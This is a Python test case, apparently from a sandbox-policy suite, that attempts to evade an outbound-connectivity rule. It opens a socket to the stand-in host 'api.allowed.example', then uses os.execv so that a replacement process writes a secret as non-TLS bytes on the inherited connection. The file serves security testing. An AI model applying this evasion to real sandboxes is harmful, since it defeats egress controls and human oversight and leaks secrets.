# class: network
# rule: outbound_connectivity
# policy: shared.yaml
# success: the function's own process becomes another program, which sends bytes that are not TLS on
#   the inherited connection
# proof: word
# needs: resolver
import os
import socket
import sys

from attack import attempt

AFTER = """
import os, socket, sys
sys.path.insert(0, {folder!r})
from attack import SECRET, attempt, patience

@attempt
def send():
    os.write({out}, SECRET.encode())
    listener = socket.socket(fileno={listener})
    listener.settimeout(patience(3))
    peer = listener.accept()[0]
    peer.settimeout(patience(1))
    return peer.recv(100)
"""


@attempt
def send():
    listener = socket.socket()
    listener.bind(("127.66.66.67", 443))
    listener.listen(4)
    place = socket.getaddrinfo("api.allowed.example", 443, socket.AF_INET, socket.SOCK_STREAM)[0][4]
    out = socket.socket()
    out.connect(place)
    for kept in (listener, out):
        os.set_inheritable(kept.fileno(), True)
    folder = os.path.dirname(os.path.abspath(__file__))
    code = AFTER.format(folder=folder, out=out.fileno(), listener=listener.fileno())
    os.execv(sys.executable, [sys.executable, "-c", code])
